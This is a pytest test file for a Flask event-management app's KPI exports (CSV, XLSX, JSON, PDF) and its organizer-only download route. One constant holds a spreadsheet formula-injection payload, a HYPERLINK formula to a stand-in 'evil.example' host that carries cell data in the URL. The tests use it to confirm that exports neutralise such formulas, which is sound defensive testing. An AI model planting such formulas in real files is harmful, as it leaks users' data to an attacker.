"""KPI exports (CSV, XLSX, JSON, PDF) of the hand-built edition, and the dashboard's download.

The files are read back the way their readers read them: the csv module,
openpyxl, json, and the text drawn on the PDF's pages.
"""

from __future__ import annotations

import csv
import io
import json
from datetime import date
from decimal import Decimal

import pytest
from flask import Flask
from flask.testing import FlaskClient
from openpyxl import load_workbook
from sqlalchemy import select

from telecom.events.models import CandidateStatus, CandidateVenue, Edition
from telecom.extensions import db
from telecom.kpi import compute_kpis
from telecom.kpi.exports import (
    CSV_HEADERS,
    KpiReport,
    csv_export,
    json_document,
    json_export,
    load_report,
    matching_as_of,
    pdf_export,
    report_html,
    xlsx_export,
)
from telecom.kpi.figures import HEADLINES
from tests.helpers import log_in, make_edition, make_organizer, make_user
from tests.kpi.support import build_edition
from tests.payments.buyer_support import pdf_text

SLUG = "kpi-world-2015"
EARLIER = "kpi-world-2013"
EVIL = '=HYPERLINK("http://evil.example/steal?"&A1,"Click")'


def make_earlier_edition() -> Edition:
    """TELECOM World 2013 in Bangkok, with only its candidate venues recorded."""
    edition = make_edition(
        EARLIER,
        name="ITU TELECOM World 2013",
        city="Bangkok",
        country="TH",
        venue="IMPACT",
        start_date=date(2013, 11, 19),
        end_date=date(2013, 11, 22),
        timezone="Asia/Bangkok",
    )
    for city, status in (("Bangkok", CandidateStatus.CHOSEN), ("Dubai", CandidateStatus.WITHDRAWN)):
        db.session.add(
            CandidateVenue(
                edition_id=edition.id, city=city, country="TH", venue=f"{city} Hall", status=status
            )
        )
    db.session.commit()
    return edition


def csv_rows(data: bytes) -> list[dict[str, str]]:
    assert data.startswith("\ufeff".encode())  # Excel reads the accents right
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def find(rows: list[dict[str, str]], edition: str, kpi: str, figure: str, dimension: str = ""):
    matches = [
        row
        for row in rows
        if (row["edition"], row["kpi"], row["figure"], row["dimension"])
        == (edition, kpi, figure, dimension)
    ]
    assert len(matches) == 1, (edition, kpi, figure, dimension)
    return matches[0]


# --------------------------------------------------------------------------- CSV


def test_the_csv_has_one_row_per_figure_that_parses_back(app: Flask) -> None:
    build_edition()

    rows = csv_rows(csv_export(load_report(SLUG)))

    assert tuple(rows[0].keys()) == CSV_HEADERS
    assert {row["edition"] for row in rows} == {SLUG}
    assert {row["as_of"] for row in rows} == {""}
    assert find(rows, SLUG, "trade_visitors", "attended") | {} == {
        "edition": SLUG, "as_of": "", "kpi": "trade_visitors", "figure": "attended",
        "dimension": "", "value": "3", "unit": "count",
    }  # fmt: skip
    assert find(rows, SLUG, "trade_visitors", "visits")["value"] == "4"
    net = find(rows, SLUG, "exhibition_size", "net_sqm")
    assert (net["value"], net["unit"]) == ("35.00", "sqm")
    assert find(rows, SLUG, "exhibitors", "by_turnover_band", "under_10m")["value"] == "2"
    assert find(rows, SLUG, "vips", "by_category", "MIN")["value"] == "1"  # Mina came
    assert find(rows, SLUG, "vips", "by_category", "CEO")["value"] == "0"
    revenue = find(rows, SLUG, "financial_result", "revenue")
    assert (revenue["value"], revenue["unit"]) == ("1850.00", "CHF")
    assert find(rows, SLUG, "forum", "satisfaction.mean_rating")["unit"] == "score_1_5"
    chosen = find(rows, SLUG, "candidate_venues", "chosen")
    assert chosen["value"] == "Budapest Expo, Budapest (HU)"


def test_the_csv_as_of_a_day_says_so_and_has_that_days_figures(app: Flask) -> None:
    build_edition()

    rows = csv_rows(csv_export(load_report(SLUG, as_of=date(2015, 10, 12))))

    assert {row["as_of"] for row in rows} == {"2015-10-12"}
    assert find(rows, SLUG, "trade_visitors", "attended")["value"] == "2"


def test_text_that_a_spreadsheet_would_run_is_neutralised(app: Flask) -> None:
    build_edition()
    chosen = db.session.scalar(
        select(CandidateVenue).where(CandidateVenue.status == CandidateStatus.CHOSEN)
    )
    chosen.venue = EVIL
    db.session.commit()
    report = load_report(SLUG)

    value = find(csv_rows(csv_export(report)), SLUG, "candidate_venues", "chosen")["value"]
    assert value == "'" + EVIL + ", Budapest (HU)"

    sheet = load_workbook(io.BytesIO(xlsx_export(report)))["Candidate venues"]
    cells = [row[2] for row in sheet.iter_rows(min_row=2) if row[4].value.endswith(".chosen")]
    assert [cell.value for cell in cells] == [EVIL + ", Budapest (HU)"]
    assert cells[0].data_type == "s"  # a text cell, never a formula


def test_comparing_puts_both_editions_rows_in_the_csv(app: Flask) -> None:
    build_edition()
    make_earlier_edition()

    rows = csv_rows(csv_export(load_report(SLUG, compare_with=EARLIER)))

    # The earlier edition first.
    assert rows[0]["edition"] == EARLIER
    assert {row["edition"] for row in rows} == {SLUG, EARLIER}
    assert find(rows, EARLIER, "candidate_venues", "count")["value"] == "2"
    assert find(rows, SLUG, "candidate_venues", "count")["value"] == "3"
    assert find(rows, EARLIER, "trade_visitors", "attended")["value"] == "0"
    assert len([r for r in rows if r["edition"] == EARLIER]) == len(
        [r for r in rows if r["edition"] == SLUG]
    )


# --------------------------------------------------------------------------- XLSX


def test_the_workbook_has_a_summary_and_a_sheet_per_kpi_with_numbers(app: Flask) -> None:
    build_edition()

    book = load_workbook(io.BytesIO(xlsx_export(load_report(SLUG))))

    assert book.sheetnames == ["Summary", *(str(h.label) for h in HEADLINES)]
    visitors = {
        row[4]: row for row in book["Trade visitors"].iter_rows(min_row=2, values_only=True)
    }
    assert visitors["trade_visitors.attended"][:4] == ("Attended", None, 3, "count")
    assert isinstance(visitors["trade_visitors.attended"][2], int)
    size = book["Size of exhibition"]
    net = next(row for row in size.iter_rows(min_row=2) if row[4].value.endswith("net_sqm"))
    assert net[2].value == 35 and net[2].number_format == "#,##0.00"
    bands = {
        row[5]: row[2]
        for row in book["Exhibitors"].iter_rows(min_row=2, values_only=True)
        if row[4] == "exhibitors.by_turnover_band"
    }
    assert bands == {"under_10m": 2, "10m_100m": 1, "100m_1b": 0, "1b_10b": 0, "over_10b": 1}

    summary = list(book["Summary"].iter_rows(values_only=True))
    headlines = {row[0]: row[2] for row in summary if row and row[0] in {"Trade visitors", "VIPs"}}
    assert headlines == {"Trade visitors": 3, "VIPs": 1}
    result = next(row for row in summary if row and row[0] == "Financial result")
    assert result[2] == Decimal("1150") and result[3] == "CHF"  # 1850 received - 700 costs


def test_the_workbook_compares_two_editions_on_its_own_sheet(app: Flask) -> None:
    build_edition()
    make_earlier_edition()

    book = load_workbook(io.BytesIO(xlsx_export(load_report(SLUG, compare_with=EARLIER))))

    assert book.sheetnames[-1] == "Comparison"
    rows = list(book["Comparison"].iter_rows(values_only=True))
    assert rows[0] == (
        "KPI", "Figure", "Dimension", "Unit", EARLIER, SLUG, "Change", "Change (%)",
    )  # fmt: skip
    venues = next(row for row in rows if row[:2] == ("Candidate venues", "Candidate venues"))
    assert venues[4:] == (2, 3, 1, 50)
    visitors = next(row for row in rows if row[:2] == ("Trade visitors", "Attended"))
    assert visitors[4:] == (0, 3, 3, None)  # no percentage of nothing


# --------------------------------------------------------------------------- JSON


def test_the_json_is_the_apis_body(app: Flask) -> None:
    built = build_edition()

    body = json.loads(json_export(load_report(SLUG, as_of=date(2015, 10, 12))))

    assert body == compute_kpis(built.edition, date(2015, 10, 12)).as_dict()
    assert "comparison" not in body


def test_the_json_comparison_lines_up_every_figure(app: Flask) -> None:
    built = build_edition()
    make_earlier_edition()

    body = json_document(load_report(SLUG, compare_with=EARLIER))

    comparison = body.pop("comparison")
    assert body == compute_kpis(built.edition).as_dict()
    about = ("edition", "as_of", "currency", "earlier", "later")
    assert {key: comparison[key] for key in about} == {
        "edition": EARLIER, "as_of": None, "currency": "CHF", "earlier": EARLIER, "later": SLUG,
    }  # fmt: skip
    lines = {(f["kpi"], f["figure"], f["dimension"]): f for f in comparison["figures"]}
    assert lines[("candidate_venues", "count", "")] == {
        "kpi": "candidate_venues", "figure": "count", "dimension": "", "unit": "count",
        "earlier": 2, "later": 3, "delta": "1", "percent": "50.0",
    }  # fmt: skip
    assert lines[("financial_result", "revenue", "")] | {} == {
        "kpi": "financial_result", "figure": "revenue", "dimension": "", "unit": "CHF",
        "earlier": "0.00", "later": "1850.00", "delta": "1850.00", "percent": None,
    }  # fmt: skip
    json.dumps(body | {"comparison": comparison})  # serialisable as it is


def test_an_as_of_date_compares_the_same_day_of_the_other_edition(app: Flask) -> None:
    build_edition()
    earlier = make_earlier_edition()
    later = db.session.scalar(select(Edition).where(Edition.slug == SLUG))

    report = load_report(SLUG, compare_with=EARLIER, as_of=date(2015, 10, 13))

    # 13 October is the second day of 2015; the second day of 2013 was 20 November.
    assert matching_as_of(date(2015, 10, 13), later, earlier) == date(2013, 11, 20)
    assert report.result.as_of == date(2015, 10, 13)
    assert report.other is not None and report.other.as_of == date(2013, 11, 20)
    assert json_document(report)["comparison"]["as_of"] == "2013-11-20"


# --------------------------------------------------------------------------- PDF


def test_the_pdf_report_has_the_headlines_definitions_and_charts(app: Flask) -> None:
    build_edition()
    report = load_report(SLUG)

    pdf = pdf_export(report)

    assert pdf.startswith(b"%PDF")
    words = pdf_text(pdf)
    for expected in ("KPI report", "ITU TELECOM World 2015", "HUNGEXPO", "Headline figures",
                     "Definitions", "1,850.00 CHF", "35.00 m²"):  # fmt: skip
        assert expected in words, expected
    # Chart text is drawn glyph by glyph, so it reads back with spaces between letters.
    letters = words.replace(" ", "")
    for title in ("Registrationsperday", "Check-insperday", "Exhibitorsbyannualturnover",
                  "Netareabyhall", "Revenueagainstcosts"):  # fmt: skip
        assert title in letters, title
    for headline in HEADLINES:
        assert str(headline.label) in words, headline.label
    # Definitions are long; the text is read back glyph by glyph, so compare their opening words.
    for headline in HEADLINES:
        opening = " ".join(str(headline.definition).split()[:4])
        assert opening in words, opening
    html = report_html(report)
    assert html.count('<svg xmlns="http://www.w3.org/2000/svg"') == 5


def test_the_pdf_names_what_was_not_collected(app: Flask) -> None:
    make_edition(SLUG)  # nothing recorded at all

    words = pdf_text(pdf_export(load_report(SLUG)))

    assert "Not collected for this edition" in words
    for item in ("exhibitor satisfaction survey", "web traffic", "costs"):
        assert item in words, item


def test_the_pdf_compares_two_editions(app: Flask) -> None:
    build_edition()
    make_earlier_edition()

    words = pdf_text(pdf_export(load_report(SLUG, compare_with=EARLIER)))

    for expected in ("Comparison", "ITU TELECOM World 2013", "Compared with", "+50.0 %"):
        assert expected in words, expected


def test_the_pdf_speaks_the_readers_language(app: Flask) -> None:
    build_edition()
    report = load_report(SLUG)

    with app.test_request_context("/", headers={"Accept-Language": "fr"}):
        html = report_html(report)

    assert '<html lang="fr"' in html


def test_the_report_lists_editions_in_date_order(app: Flask) -> None:
    build_edition()
    make_earlier_edition()

    report = load_report(EARLIER, compare_with=SLUG)

    assert isinstance(report, KpiReport)
    assert [e.slug for e, _kpis in report.in_date_order()] == [EARLIER, SLUG]
    assert json_document(report)["edition"] == EARLIER  # the body stays the edition asked for


# --------------------------------------------------------------------------- the download


def export_url(fmt: str, slug: str = SLUG) -> str:
    return f"/organizer/editions/{slug}/kpis/export.{fmt}"


@pytest.fixture
def organizer(app: Flask, client: FlaskClient) -> FlaskClient:
    make_organizer()
    log_in(client, "organizer@example.org")
    return client


@pytest.mark.parametrize(
    ("fmt", "mimetype", "opening"),
    [
        ("csv", "text/csv", b"\xef\xbb\xbfedition,as_of,kpi"),
        ("xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", b"PK"),
        ("json", "application/json", b"{"),
        ("pdf", "application/pdf", b"%PDF"),
    ],
)
def test_an_organizer_downloads_each_format(
    organizer: FlaskClient, fmt: str, mimetype: str, opening: bytes
) -> None:
    build_edition()

    response = organizer.get(export_url(fmt))

    assert response.status_code == 200
    assert response.mimetype == mimetype
    assert response.headers["Content-Disposition"] == f'attachment; filename="kpis-{SLUG}.{fmt}"'
    assert response.data.startswith(opening)


def test_the_download_name_says_what_was_compared_and_when(organizer: FlaskClient) -> None:
    build_edition()
    make_earlier_edition()

    response = organizer.get(
        export_url("xlsx"), query_string={"compare": EARLIER, "as_of": "2015-10-13"}
    )

    assert response.status_code == 200
    assert response.headers["Content-Disposition"] == (
        f'attachment; filename="kpis-{SLUG}-vs-{EARLIER}-as-of-2015-10-13.xlsx"'
    )
    assert "Comparison" in load_workbook(io.BytesIO(response.data)).sheetnames


def test_an_unknown_format_or_edition_is_not_found(organizer: FlaskClient) -> None:
    build_edition()

    assert organizer.get(export_url("docx")).status_code == 404
    assert organizer.get(export_url("csv", "no-such-edition")).status_code == 404


@pytest.mark.parametrize(
    ("query", "message"),
    [
        ({"as_of": "13/10/2015"}, "as_of must be a date written YYYY-MM-DD"),
        ({"compare": "no-such-edition"}, "There is no edition no-such-edition to compare with."),
        ({"compare": SLUG}, "Choose another edition to compare with."),
    ],
)
def test_bad_parameters_are_explained(
    app: Flask, organizer: FlaskClient, query: dict[str, str], message: str
) -> None:
    build_edition()

    response = organizer.get(export_url("pdf"), query_string=query)

    if "kpi_admin.dashboard" in app.view_functions:
        assert response.status_code == 302
        assert response.headers["Location"].endswith(f"/organizer/editions/{SLUG}/kpis/")
        page = organizer.get(response.headers["Location"]).get_data(as_text=True)
    else:
        assert response.status_code == 400
        page = response.get_data(as_text=True)
    assert message in page


def test_only_organizers_download(app: Flask, client: FlaskClient) -> None:
    build_edition()

    anonymous = client.get(export_url("csv"))
    assert anonymous.status_code == 302 and "/account/login" in anonymous.headers["Location"]

    make_user("visitor@example.org")
    log_in(client, "visitor@example.org")
    assert client.get(export_url("csv")).status_code == 403
